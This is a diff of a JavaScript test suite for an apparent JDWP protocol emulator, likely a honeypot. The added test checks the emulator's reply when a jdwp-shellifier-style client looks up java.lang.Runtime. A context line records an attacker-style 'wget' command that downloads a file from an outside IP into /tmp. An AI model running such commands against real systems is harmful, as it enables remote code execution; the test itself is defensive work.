@@ -47,6 +47,16 @@ describe('jdwp session', () => {
       '"wget http://198.51.100.5/j -O /tmp/j"']);
   });
 
+  it('finds java.lang.Runtime by signature, as jdwp-shellifier looks it up', () => {
+    const { ctx, session } = startSession(jdwp);
+    session.data(Buffer.concat([Buffer.from('JDWP-Handshake'),
+      command(5, 1, 2, encodeString('Ljava/lang/Runtime;')),
+      command(6, 1, 2, encodeString('Lcom/example/Nope;'))]));
+    const out = Buffer.concat(ctx.sent).subarray(14).toString('hex');
+    expect(out).toBe('0000001b' + '00000005' + '80' + '0000' + '00000001' + '01' +
+      '0000000000000105' + '00000007' + '0000000f' + '00000006' + '80' + '0000' + '00000000');
+  });
+
   it('refuses a short InvokeMethod with INTERNAL, as the JVM did, and unknown sets', () => {
     const { ctx, session } = startSession(jdwp);
     session.data(Buffer.concat([Buffer.from('JDWP-Handshake'), command(10, 3, 3),
